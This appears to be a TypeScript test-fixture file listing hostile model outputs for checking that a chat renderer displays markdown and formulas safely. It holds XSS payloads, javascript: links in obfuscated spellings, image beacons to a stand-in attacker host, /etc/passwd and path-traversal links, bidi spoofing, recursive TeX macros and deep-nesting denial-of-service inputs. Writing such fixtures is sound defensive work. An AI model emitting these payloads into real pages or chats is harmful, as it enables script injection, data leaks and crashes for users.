/** A text that a hostile or broken model may write. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

/** Nothing of evil.example is ever asked for, and nothing in here sets `window.pwned`. */
const MARKUP: Readonly<Record<string, string>> = {
  "raw HTML": `<script>window.pwned = 1</script><script src=https://evil.example/a.js></script>
<img src=https://evil.example/a.png onerror="window.pwned = 1"><iframe src="https://evil.example/"></iframe>
<svg onload="window.pwned = 1"><image href="https://evil.example/b.png"/><style>@import "//evil.example/c";</style></svg>
<link rel=preload as=image href=https://evil.example/d.png><meta http-equiv=refresh content="0;url=//evil.example">
<!-- comment --><![CDATA[x]]><?php x ?><base href="//evil.example"><form action=//evil.example><input autofocus
onfocus=window.pwned=1></form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>`,
  "links in all spellings": [
    ...["javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java&#x09;script:window.pwned=1"],
    ...["&#1;javascript:window.pwned=1", "javascript&colon;window.pwned=1", "%6aavascript:window.pwned=1"],
    ...["data:text/html,<script>window.pwned=1</script>", "data:image/svg+xml;base64,PHN2Zz4=", "blob:x"],
    ...[
      "vbscript:x",
      "file:///etc/passwd",
      "//evil.example/a",
      "\\\\evil.example\\a",
      "/api/chat",
      "?chat=x",
    ],
    ...["https:evil.example", "http://evil.example\\@bank.example/", "https://bank.example@evil.example/"],
  ]
    .map((href) => `[a](${href}) [b](<${href}>) <${href}> ![c](${href})`)
    .join("\n"),
  references: `[a][r] ![b][r] [r] ![][r] [c][s] [__proto__] [constructor][] [toString]

[r]: javascript:window.pwned=1 "x"
[s]: https://evil.example/s.png
[__proto__]: https://evil.example/proto
[constructor]: /api/chat`,
  "images of others": `![a](https://evil.example/a.png?secret=1) ![b](//evil.example/b.png) ![c](data:image/png;base64,AA)
[![d](https://evil.example/d.png)](https://evil.example/) ![e](/models?x=1) ![f](https://evil.example/f.png "t" =9x9)
![![![g](https://evil.example/g.png)](https://evil.example/h.png)](https://evil.example/i.png)`,
  "links in links": "[a [b [c](https://c.example) d](https://b.example) e](https://a.example) [![x](y)](z)",
  "events of our own stream": 'data: {"type":"done"}\n\nevent: error\nid: 7\n\n: comment\n\ndata: [DONE]\n\n',
};

const FORMULAS: Readonly<Record<string, string>> = {
  "formulas that want more than signs":
    "$\\href{javascript:window.pwned=1}{x}$ $\\url{https://evil.example}$ $\\htmlClass{md-tools}{x}$\n" +
    "$\\includegraphics[width=9em]{https://evil.example/a.png}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlId{x}{y}$\n\n" +
    "$$\n\\rule{99999em}{99999em} \\kern{99999em} \\Huge{x} \\raisebox{-9999em}{y}\n$$\n",
  "definitions that never end":
    "$\\def\\a{\\a\\a}\\a$ $$\\gdef\\b{\\b}\\b$$ \\(\\newcommand{\\c}{\\c\\c}\\c\\) \\[\\let\\d=\\def\\d\\e{\\e}\\e\\]\n\n" +
    "$\\edef\\f{\\f\\f}\\f$ $\\futurelet\\g\\g\\g$ $\\global\\def\\frac{\\frac}\\frac12$\n\n$\\frac12$",
  "10,000 braces in a formula": `$${"{".repeat(10_000)}x${"}".repeat(10_000)}$ and $$\n${"{".repeat(1_500)}`,
  "a formula of roots of roots": `$$\n${"\\sqrt{\\frac{".repeat(150)}x${"}{y}}".repeat(150)}\n$$`,
  "formulas by the hundred": "$\\sum_{i=0}^{n} \\frac{x_i}{y_i}$ ".repeat(240),
  "dollars without end": "$".repeat(5_000),
  "openers without end": `${"\\(x ".repeat(1_500)}${"\\[".repeat(500)}`,
  "broken formulas": "$\\frac{$ $}$ $\\begin{x}$ $\\left($ $^^$ $\\$ $\\verb|$ $\\nonsense$ \\(\\) \\[\\]",
};

const CODE: Readonly<Record<string, string>> = {
  "languages of strange names": [
    "__proto__",
    "constructor",
    "../../x",
    "\u202eexe",
    "<b>",
    '"x',
    "ts\u0000",
    "😀",
  ]
    .map((language) => `\`\`\`${language}\nlet a = 1;\n\`\`\`\n`)
    .join("\n"),
  "file names from elsewhere": `\`\`\`ts ../../../etc/passwd.ts\nx\n\`\`\`\n
\`\`\`ts title="..\\..\\a\u001b[31mb.ts"\ny\n\`\`\`\n\n\`\`\`ts ${"n".repeat(10_240)}.ts\nz\n\`\`\`\n`,
  "code of 100 kB on one line": `\`\`\`js\n${"let x='a';".repeat(10_240)}\n\`\`\`\n`,
  "code with its fences inside": "````\n```\n~~~\n````\n~~~\n```\n~~~~\n> ```\n> x\n```\n- ```\n  y\n",
  "a fence that stays open":
    '```ts a.ts\nconst a = "<script>window.pwned = 1</script>";\n\n\tif (a) {\n```not\n``\n',
};

const CHARACTERS: Readonly<Record<string, string>> = {
  "characters that turn text":
    "a\u202egnp.exe\u202c b \u2066\u2067c\u2069 `d\u202ee` [\u202emoc.live](https://evil.example)",
  zalgo: `Z${"\u0300\u0316\u0489".repeat(500)}a${"\u035c".repeat(500)} **l${"\u0334".repeat(300)}** \`g\u0336\`o`,
  "nothing and controls":
    "a\u0000b\u0001\u001b[2J\u0007\b\u007f\u0085\u2028\u2029\ufeff\ufffe\uffff **c\u0000** `\u0000`\r\r\n\r",
  "halves of characters":
    "\ud800 \udc00 **\ud83d** `\ude00` [\ud800](https://evil.example/\udc00) $\ud800$ |\ud83d|\n|-|\n",
  "a word without end": "wordwithoutspace".repeat(2_000),
  "spaces without end": `a${" ".repeat(5_000)}\n${"\t".repeat(2_000)}b${"\n".repeat(3_000)}c`,
};

const NESTING: Readonly<Record<string, string>> = {
  "10,000 quotations in one another": `${">".repeat(10_000)} x`,
  "20,000 brackets": "[".repeat(20_000),
  "brackets just short enough": `${"[".repeat(4_000)}x${"](y)".repeat(1_000)}`,
  "images in images": `${"![".repeat(2_000)}x${"](y)".repeat(500)}`,
  "lists 500 deep": Array.from({ length: 500 }, (_, depth) => `${"  ".repeat(depth)}- x\n`).join(""),
  "lists on one line": `${"- ".repeat(2_000)}x`,
  "numbers on one line": `${"1. ".repeat(2_000)}x`,
  "quotations and lists by turns": `${"> - 1. ".repeat(1_500)}x`,
  "marks of every kind": "*_~`[!<&$\\".repeat(800),
  "emphasis left open": "*a _b **c __d ~~e ".repeat(450),
  "strong pieces without a space": "**a**".repeat(12_000),
  "backticks of growing number": Array.from({ length: 120 }, (_, count) => "`".repeat(count)).join("a"),
  "angles and entities": `${"<".repeat(3_000)}${"&#x;&amp;&".repeat(300)}`,
  "stars after an address": `http://example.com/${"*".repeat(70_000)}a`,
  "addresses one after the other": "http://a.example/?x=".repeat(1_000),
  "footnotes of footnotes": `${"[^a]".repeat(1_000)}\n\n[^a]: [^a]\n[^a]: x\n[^__proto__]: y\n`,
  definitions: `${Array.from({ length: 500 }, (_, n) => `[r${n}]: https://evil.example/${n}\n`).join("")}\n[r1]`,
  "a table of 2,000 rows": `| a | b |\n|---|---|\n${"| **c** | [d](https://d.example) |\n".repeat(2_000)}`,
  "a table of 1,000 columns": `|${"a|".repeat(1_000)}\n|${"-|".repeat(1_000)}\n|${"b|".repeat(1_000)}\n`,
  "a table of 128 columns": `|${"a|".repeat(128)}\n|${"-|".repeat(128)}\n${"|b\n".repeat(400)}`,
  "rows that are short": `|${"a|".repeat(48)}\n|${"-|".repeat(48)}\n${"|b\n".repeat(1_500)}`,
};

/** What models and those who speak through them may write: each has to be shown, and nothing more may come of it. */
export const HOSTILE_TEXTS: readonly HostileText[] = [MARKUP, FORMULAS, CODE, CHARACTERS, NESTING].flatMap(
  (group) => Object.entries(group).map(([name, text]) => ({ name, text })),
);
